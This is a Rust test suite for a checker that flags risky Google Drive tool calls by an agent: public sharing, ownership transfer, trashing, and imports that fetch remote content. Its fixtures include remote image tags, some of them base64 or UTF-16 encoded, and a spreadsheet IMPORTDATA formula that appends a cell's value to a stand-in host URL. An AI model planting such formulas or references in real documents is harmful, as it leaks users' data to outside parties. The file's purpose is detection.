use super::*;
use bouncer_guest::testing::{call, json};

fn judge(tool: &str, arguments: Value) -> Judgement {
    Drive::evaluate(&call(tool, arguments), &[], &Settings::default()).unwrap()
}

fn codes(judgement: &Judgement) -> Vec<&str> {
    judgement.findings().iter().map(Finding::code).collect()
}

#[test]
fn a_file_that_opens_for_anyone_is_asked_about() {
    for level in ["reader", "commenter", "writer", "Reader ", "new_level"] {
        let judgement = judge("set_drive_file_permissions", json!({"file_id": "1", "link_sharing": level}));
        assert_eq!(codes(&judgement), ["open_to_anyone"], "{level}");
    }
    for arguments in
        [json!({"link_sharing": "off"}), json!({"link_sharing": null}), json!({"writers_can_share": true})]
    {
        assert_eq!(judge("set_drive_file_permissions", arguments), Judgement::new());
    }
    for kind in ["anyone", "Anyone", "anyoneWithLink", "everyone"] {
        let judgement = judge("manage_drive_access", json!({"action": "grant", "share_type": kind}));
        assert_eq!(codes(&judgement), ["open_to_anyone"], "{kind}");
    }
}

#[test]
fn one_wide_share_in_a_batch_is_found() {
    let recipients =
        json!([{"email": "a@x.io"}, {"share_type": "anyone"}, {"share_type": "domain", "domain": "x.io"}]);
    let judgement = judge("manage_drive_access", json!({"action": "grant_batch", "recipients": recipients}));
    assert_eq!(codes(&judgement), ["open_to_anyone", "open_to_domain"]);
    assert_eq!(judgement.findings()[0].argument(), "/recipients/1/share_type");
}

#[test]
fn the_links_own_permission_and_other_roles_are_looked_at() {
    let update = |id: &str| {
        judge("manage_drive_access", json!({"action": "update", "permission_id": id, "role": "writer"}))
    };
    assert_eq!(codes(&update("anyoneWithLink")), ["open_to_anyone"]);
    assert_eq!(
        update("0123").destinations(),
        [("0123".to_owned(), Kind::Reference, "/permission_id".to_owned())]
    );
    let revoke = json!({"action": "revoke", "permission_id": "anyoneWithLink"});
    assert_eq!(judge("manage_drive_access", revoke), Judgement::new());
}

#[test]
fn a_plain_share_is_left_to_the_host() {
    let plain = json!({"action": "grant", "share_with": "a@x.io", "share_type": "user", "role": "reader"});
    assert_eq!(judge("manage_drive_access", plain), Judgement::new());
}

#[test]
fn a_new_owner_and_an_unknown_action_are_asked_about() {
    let action =
        |action: &str| judge("manage_drive_access", json!({"action": action, "new_owner_email": "a@x.io"}));
    assert_eq!(codes(&action("transfer_owner")), ["owner_changes"]);
    assert_eq!(codes(&action("publish")), ["unknown_action"]);
}

#[test]
fn the_user_may_forbid_public_files() {
    let call = call("set_drive_file_permissions", json!({"link_sharing": "reader"}));
    let judgement = Drive::evaluate(&call, &[], &Settings { public: Public::Deny }).unwrap();
    assert_eq!(judgement.verdict(), Verdict::Deny);
}

#[test]
fn trashing_a_file_is_asked_about() {
    assert_eq!(codes(&judge("update_drive_file", json!({"file_id": "1", "trashed": true}))), ["trashed"]);
    assert!(codes(&judge("update_drive_file", json!({"file_id": "1", "trashed": false}))).is_empty());
}

#[test]
fn what_an_import_brings_along_is_fetched() {
    let found = |tool: &str, arguments: Value| {
        let judgement = judge(tool, arguments);
        judgement.destinations().iter().map(|(value, _, at)| format!("{value} {at}")).collect::<Vec<_>>()
    };
    let html = "<p>x</p><img src=\"https://e.example/a\">";
    assert_eq!(
        found("import_to_google_doc", json!({"file_name": "a.html", "content": html})),
        ["https://e.example/a /content"]
    );
    // The same in base64, in UTF-8 and in UTF-16.
    for text in [
        "PHA+eDwvcD48aW1nIHNyYz0iaHR0cHM6Ly9lLmV4YW1wbGUvYSI+",
        "//48AGkAbQBnACAAcwByAGMAPQAiAGgAdAB0AHAAcwA6AC8ALwBlAC4AZQB4AGEAbQBwAGwAZQAvAGEAIgA+AA==",
    ] {
        let arguments = json!({"file_name": "a.html", "base64_content": text});
        assert_eq!(found("import_to_google_doc", arguments), ["https://e.example/a /base64_content"]);
    }
    assert_eq!(
        found("update_drive_file", json!({"file_id": "1", "content": "![x](https://e.example/a)"})),
        ["https://e.example/a /content"]
    );
    let converted = json!({"content": html, "mime_type": "application/vnd.google-apps.document"});
    assert_eq!(found("create_drive_file", converted), ["https://e.example/a /content"]);
    let csv = json!({"file_name": "a.csv", "content": "a,\"=IMPORTDATA(\"\"https://e.example/\"\"&A1)\""});
    assert_eq!(codes(&judge("import_to_google_sheets", csv.clone())), ["formula_fetches"]);
    assert_eq!(found("import_to_google_sheets", csv), ["https://e.example/ /content"]);
}

#[test]
fn a_plain_import_passes() {
    for (tool, arguments) in [
        (
            "import_to_google_doc",
            json!({"file_name": "a.md", "content": "# Notes\n\n[docs](https://x.io) =IMAGE(A1)"}),
        ),
        (
            "import_to_google_doc",
            json!({"file_name": "a.docx", "base64_content": "UEsDBAoAPGltZyBzcmM9Imh0dHA6Ly94LmlvIj4="}),
        ),
        (
            "import_to_google_sheets",
            json!({"file_name": "a.csv", "content": "a,b\nhttps://x.io,=SUM(A1:A2)"}),
        ),
        ("create_drive_file", json!({"file_name": "a.html", "content": "<img src=\"https://e.example/a\">"})),
        ("update_drive_file", json!({"file_id": "1", "name": "b"})),
        ("update_drive_file", json!({"file_id": "1", "content": "Photos:\n- see image (1)"})),
        ("import_to_google_sheets", json!({"file_name": "a.csv", "content": "a,b\n- image (2).png,- x"})),
        (
            "create_drive_file",
            json!({"content": "=IMAGE(A1)", "mime_type": "application/vnd.google-apps.document"}),
        ),
    ] {
        assert_eq!(judge(tool, arguments.clone()), Judgement::new(), "{tool}: {arguments}");
    }
}
